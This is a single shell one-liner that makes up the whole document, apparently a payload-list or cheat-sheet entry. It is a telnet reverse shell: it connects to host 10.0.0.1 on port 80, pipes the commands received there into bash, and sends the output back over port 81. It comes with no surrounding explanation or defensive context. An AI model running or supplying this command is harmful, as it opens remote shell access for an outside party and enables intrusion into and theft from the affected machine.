telnet 10.0.0.1 80 | bash | telnet 10.0.0.1 81
